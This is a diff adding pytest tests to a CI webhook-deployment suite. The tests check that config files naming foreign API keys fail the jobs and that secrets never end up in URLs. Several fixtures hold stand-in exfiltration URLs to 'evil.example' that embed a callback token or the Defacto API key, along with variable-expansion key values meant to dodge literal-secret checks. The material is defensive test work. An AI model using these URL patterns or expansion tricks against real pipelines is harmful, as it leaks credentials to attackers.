@@ -10,6 +10,7 @@ import pytest
 from tests.answering import answering
 from tests.ci.conftest import CANARIES, Repository
 from tests.faulty_server.messages import Answer, Received, as_json
+from tests.proxy import proxying
 
 ANY = "0.0.0.0"  # noqa: S104 - asked, not bound to: it reaches this machine
 # What a runner has besides, some of it in the environment of our step.
@@ -99,6 +100,77 @@ def test_the_workflow_does(repository: Repository, elsewhere: Elsewhere) -> None
 def test_the_key_is_in_no_url(repository: Repository, elsewhere: Elsewhere, where: str) -> None:
     nothing_left(repository, elsewhere, file(repository.server.url, where), "key-in-url")
     nothing_left(repository, elsewhere, file(where), "key-in-url")
+
+
+WRITTEN_KEYS = ["an0ther-key", "an0ther-key${NOPE:-}", "an0ther${CI}", "${NOPE:-an0ther-key}", "${OWN}"]
+
+
+@pytest.mark.parametrize("api_key", WRITTEN_KEYS)
+def test_a_file_that_names_another_account_stops_the_job(repository: Repository, api_key: str) -> None:
+    """Defacto is trusted, and anyone may have an account there, to which a plan only adds."""
+    comment = "  # defacto-webhooks: ignore[literal-secret]"
+    with proxying(answer=b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n") as proxy:
+        repository.runner.variables = {**repository.runner.variables, "HTTPS_PROXY": proxy.url}
+        for host in ("api-sandbox.getdefacto.com", "api.getdefacto.com/v1"):
+            text = file(f"https://{host}", "https://evil.example/?k=${CALLBACK_TOKEN}", api_key)
+            text = text.replace('"api_key"', '"variables": {"OWN": "an0ther-key"}, "api_key"')
+            repository.write(text + comment)
+            runs = (repository.pull_request(), repository.merge(None), repository.schedule())
+            failed = [job for ended in runs for job in ended.failed]
+            assert failed == ["Plan production", "Apply production", "Drift production"]
+            assert all("has to come from a secret of the environment" in ended.log for ended in runs)
+            assert not any("an0ther" in ended.everything for ended in runs)
+    assert not proxy.received
+    assert repository.api.issues == []
+    assert "has to come from a secret of the environment" in repository.comment
+    assert [status["state"] for status in repository.api.statuses[f"{1:040x}"]] == ["failure", "failure"]
+
+
+@pytest.mark.parametrize("api_key", WRITTEN_KEYS)
+def test_such_a_file_does_not_free_the_key_for_a_url(
+    repository: Repository, elsewhere: Elsewhere, api_key: str
+) -> None:
+    url = "https://evil.example/?k=${DEFACTO_API_KEY}"
+    nothing_left(repository, elsewhere, file("https://api.getdefacto.com", url, api_key), "key-in-url")
+
+
+def test_a_key_for_this_machine_may_be_written(repository: Repository) -> None:
+    repository.server.reset(key="an0ther-key")
+    repository.write(file(repository.server.url, api_key="an0ther-key"))
+    assert not repository.pull_request().failed
+
+
+def test_a_file_without_environments_does_not_pass_by_the_workflow_s_list(repository: Repository) -> None:
+    nameless = "version: 1\nwebhooks: []\n"
+    url = f"DEFACTO_API_URL={repository.server.url}\n"
+    repository.runner.secrets = {"WEBHOOKS_ENV": repository.runner.secrets["WEBHOOKS_ENV"] + url}
+    repository.write(nameless)
+    for ended in (repository.pull_request(), repository.merge(None), repository.schedule()):
+        assert ended.failed == ["Validate"]
+        assert "the file has no `environments:`" in ended.log
+    repository.allow("")
+    asked = repository.dispatch(environment="production", fingerprint="0" * 32)
+    assert asked.failed == ["Validate"]
+    assert repository.server.log == []
+    planned = repository.pull_request()
+    assert (list(planned.jobs), planned.failed) == (["Validate", "Plan default"], [])
+
+
+def test_nor_where_a_job_names_its_environment(repository: Repository) -> None:
+    url = f"DEFACTO_API_URL={repository.server.url}\n"
+    repository.runner.secrets = {"WEBHOOKS_ENV": repository.runner.secrets["WEBHOOKS_ENV"] + url}
+    repository.allow("")
+    text = repository.workflow.read_text()
+    fixed = text.replace(
+        "environment: ${{ matrix.environment }}\n          env", "environment: production\n          env"
+    )
+    assert fixed != text
+    repository.workflow.write_text(fixed)
+    repository.write("version: 1\nwebhooks: []\n")
+    ended = repository.pull_request()
+    assert ended.failed == ["Plan default"]
+    assert "the file has no `environments:`" in ended.log
+    assert repository.server.log == []
 
 
 @pytest.mark.parametrize(
